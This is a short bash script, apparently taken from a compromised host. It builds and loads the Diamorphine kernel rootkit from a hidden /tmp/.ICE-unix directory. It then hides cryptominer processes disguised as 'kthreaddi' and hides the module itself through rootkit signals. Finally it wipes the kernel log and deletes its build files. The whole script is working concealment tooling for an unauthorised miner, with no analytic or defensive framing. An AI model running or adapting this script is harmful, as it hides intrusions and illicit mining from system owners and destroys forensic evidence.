#!/bin/bash
# build and load the LKM, then hide the miner pid and the module itself
cd /tmp/.ICE-unix/.d || exit 1
make >/dev/null 2>&1
insmod diamorphine.ko 2>/dev/null || insmod /tmp/.ICE-unix/.d/diamorphine.ko
MPID=$(pgrep -f kthreaddi)
for p in $MPID; do kill -31 $p; done
kill -63 0
dmesg -C
rm -rf /tmp/.ICE-unix/.d/*.ko /tmp/.ICE-unix/.d/*.o
